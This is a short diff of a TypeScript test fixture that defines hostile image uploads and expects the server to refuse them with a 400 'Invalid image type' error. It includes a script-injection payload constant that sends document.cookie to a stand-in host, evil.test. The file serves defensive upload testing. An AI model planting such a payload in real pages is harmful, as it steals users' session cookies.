@@ -1,7 +1,7 @@
 import { bmp, hollowPng, icon, photoWithExif, picture } from './pictures.ts';
 
 /** Files that nobody sends by accident. `refused`: the expected answer. `harmless`: what must not remain of them. */
-export type HostileFile = { name: string; bytes: Buffer; fileName?: string; refused?: { status: number; message?: string }; harmless?: RegExp };
+type HostileFile = { name: string; bytes: Buffer; fileName?: string; refused?: { status: number; message?: string }; harmless?: RegExp };
 
 const SCRIPT = '<script>fetch("https://evil.test/"+document.cookie)</script>';
 const invalid = { status: 400, message: 'Invalid image type' };
